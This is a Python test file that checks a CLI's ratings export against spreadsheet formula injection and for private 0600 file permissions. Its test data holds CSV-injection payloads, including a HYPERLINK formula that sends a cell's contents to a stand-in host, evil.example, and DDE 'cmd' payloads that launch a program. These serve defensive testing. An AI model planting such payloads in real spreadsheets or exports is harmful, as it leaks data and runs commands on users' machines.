"""The ratings export is safe to open in a spreadsheet and private: a cell that a spreadsheet would read as a
formula (=, +, -, @, a tab or carriage return first) is written with a ' before it, and the file is created
0600 (issue #20, finding 9: `=HYPERLINK(...)` written verbatim, and the file 0644). The real `landinfo
feedback export` over ratings stored by the real FeedbackStore; the CSV read back with the csv module."""
from __future__ import annotations

import csv
import dataclasses
import io
import os
import stat

import pytest

from landinfo.cli import main
from landinfo.feedback import FeedbackStore
from landinfo.settings import Settings
from test_feedback import ANSWER

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def umask_022():
    old = os.umask(0o022)
    yield
    os.umask(old)


def test_formulas_in_ratings_are_written_as_text_and_the_file_is_private(tmp_path, umask_022, capsys):
    store = FeedbackStore(Settings().feedback_dir)
    for formula in FORMULAS:
        answer = dataclasses.replace(ANSWER, question=formula, text=formula)
        store.add(answer, "wrong", comment=formula, user=formula)
    store.add(ANSWER, "helpful", comment="Correct; the 2025 figure is -63 on last year", user="anna")
    out = tmp_path / "ratings.csv"
    assert main(["feedback", "export", "--out", str(out)]) == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    assert len(rows) == len(FORMULAS) + 1
    for row, formula in zip(rows, FORMULAS):
        for column in ("question", "answer", "user"):
            assert row[column] == "'" + formula, (column, row[column])
        assert row["comment"] == "'" + formula.strip()  # the store strips a comment
    last = rows[-1]  # ordinary cells are untouched
    assert last["comment"] == "Correct; the 2025 figure is -63 on last year" and last["user"] == "anna"
    assert last["question"] == ANSWER.question and last["sources"] == "[1] Veldoria: Human rights situation, p. 2"
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows for cell in row.values())


def test_an_existing_export_file_is_made_private_and_jsonl_too(tmp_path, umask_022, capsys):
    FeedbackStore(Settings().feedback_dir).add(ANSWER, "helpful")
    old = tmp_path / "ratings.csv"
    old.write_text("old\n", encoding="utf-8")
    old.chmod(0o644)
    assert main(["feedback", "export", "--out", str(old)]) == 0
    assert stat.S_IMODE(old.stat().st_mode) == 0o600 and "old" not in old.read_text(encoding="utf-8")
    jsonl = tmp_path / "ratings.jsonl"
    assert main(["feedback", "export", "--out", str(jsonl)]) == 0
    assert stat.S_IMODE(jsonl.stat().st_mode) == 0o600
